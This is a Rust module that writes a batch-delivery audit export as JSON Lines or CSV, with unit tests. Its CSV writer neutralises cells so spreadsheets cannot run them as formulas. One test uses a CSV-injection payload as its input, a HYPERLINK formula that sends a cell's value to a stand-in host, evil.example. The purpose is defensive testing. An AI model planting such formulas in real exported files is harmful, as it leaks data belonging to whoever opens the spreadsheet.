//! The lines of an audit export, written as JSON Lines or CSV. One writer for
//! `hillpost audit export` and `GET /api/v1/batches/{id}/audit`, so both give the same bytes.

use std::io::Write;

use hillpost_store::ExportLine;
use serde::Deserialize;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, clap::ValueEnum, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum ExportFormat {
    /// One JSON object per line.
    #[default]
    Jsonl,
    /// A header row, then one row per line.
    Csv,
}

impl ExportFormat {
    pub fn content_type(self) -> &'static str {
        match self {
            ExportFormat::Jsonl => "application/jsonl",
            ExportFormat::Csv => "text/csv; charset=utf-8",
        }
    }
}

#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    #[error("writing the export: {0}")]
    Io(#[from] std::io::Error),
    #[error("writing the export as JSON: {0}")]
    Json(#[from] serde_json::Error),
    #[error("writing the export as CSV: {0}")]
    Csv(#[from] csv::Error),
}

pub fn write_lines(
    mut out: impl Write,
    lines: &[ExportLine],
    format: ExportFormat,
) -> Result<(), ExportError> {
    match format {
        ExportFormat::Jsonl => {
            for line in lines {
                serde_json::to_writer(&mut out, line)?;
                out.write_all(b"\n")?;
            }
            out.flush()?;
        }
        ExportFormat::Csv => {
            let mut csv = csv::Writer::from_writer(out);
            csv.write_record(HEADER)?;
            for line in lines {
                csv.write_record(csv_row(line)?)?;
            }
            csv.flush()?;
        }
    }
    Ok(())
}

/// One line's cells in [`HEADER`] order, text neutralised for spreadsheets (a remote
/// server's answer, a recipient's name: see `hillpost_core::csv_cell`). The JSON Lines
/// export keeps every value as it is.
fn csv_row(line: &ExportLine) -> Result<Vec<String>, ExportError> {
    let serde_json::Value::Object(fields) = serde_json::to_value(line)? else {
        return Ok(Vec::new());
    };
    Ok(HEADER
        .iter()
        .map(|name| match fields.get(*name) {
            Some(serde_json::Value::String(text)) => {
                hillpost_core::csv_cell::neutralise(text).into_owned()
            }
            Some(serde_json::Value::Null) | None => String::new(),
            Some(other) => other.to_string(),
        })
        .collect())
}

const HEADER: &[&str] = &[
    "record",
    "batch_id",
    "delivery_id",
    "recipient_key",
    "recipient_name",
    "channel",
    "endpoint",
    "signer_id",
    "signature_count",
    "delivery_state",
    "skip_reason",
    "attempt_no",
    "started_at",
    "finished_at",
    "outcome",
    "remote_code",
    "remote_text",
    "sent_sha256",
    "note",
    "event_kind",
    "event_at",
    "event_actor",
    "event",
    "receiver_id",
    // Last, where earlier exports had it (readers may look for it there).
    "evidence_sha256",
];

#[cfg(test)]
mod tests {
    use super::*;

    fn line(remote_text: &str) -> ExportLine {
        ExportLine {
            record: "attempt",
            batch_id: hillpost_core::BatchId::new(1),
            delivery_id: hillpost_core::DeliveryId::new(2),
            recipient_key: "staff".into(),
            recipient_name: "@Committee staff".into(),
            channel: "email".into(),
            endpoint: "staff@example.org".into(),
            signer_id: Some(hillpost_core::SignatureId::new(3)),
            signature_count: None,
            delivery_state: "delivered".into(),
            skip_reason: None,
            attempt_no: Some(hillpost_core::AttemptNo::new(1)),
            started_at: None,
            finished_at: None,
            outcome: Some("ok".into()),
            remote_code: Some(250),
            remote_text: Some(remote_text.into()),
            sent_sha256: None,
            note: None,
            evidence_sha256: None,
            event_kind: None,
            event_at: None,
            event_actor: None,
            event: None,
            receiver_id: None,
        }
    }

    #[test]
    fn csv_cells_cannot_run_as_formulas_and_json_keeps_the_original() {
        let formula = "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Click\")";
        let mut csv = Vec::new();
        write_lines(&mut csv, &[line(formula)], ExportFormat::Csv).unwrap();
        let csv = String::from_utf8(csv).unwrap();
        let mut rows = csv::Reader::from_reader(csv.as_bytes());
        let headers = rows.headers().unwrap().clone();
        assert_eq!(headers.iter().collect::<Vec<_>>(), HEADER);
        let row = rows.records().next().unwrap().unwrap();
        let cell = |name: &str| {
            let at = HEADER.iter().position(|h| *h == name).expect("a column");
            row[at].to_string()
        };
        assert_eq!(cell("remote_text"), format!("'{formula}"));
        assert_eq!(cell("recipient_name"), "'@Committee staff");
        assert_eq!(cell("remote_code"), "250");
        assert_eq!(cell("skip_reason"), "", "an absent value is an empty cell");

        let mut jsonl = Vec::new();
        write_lines(&mut jsonl, &[line(formula)], ExportFormat::Jsonl).unwrap();
        let value: serde_json::Value = serde_json::from_slice(&jsonl).unwrap();
        assert_eq!(value["remote_text"], formula);
    }

    #[test]
    fn the_csv_header_names_every_field_of_a_line() {
        let serde_json::Value::Object(fields) = serde_json::to_value(line("x")).unwrap() else {
            panic!("a line is an object");
        };
        let names: Vec<&str> = fields.keys().map(String::as_str).collect();
        let mut header = HEADER.to_vec();
        header.sort_unstable();
        let mut names = names;
        names.sort_unstable();
        assert_eq!(names, header);
    }
}
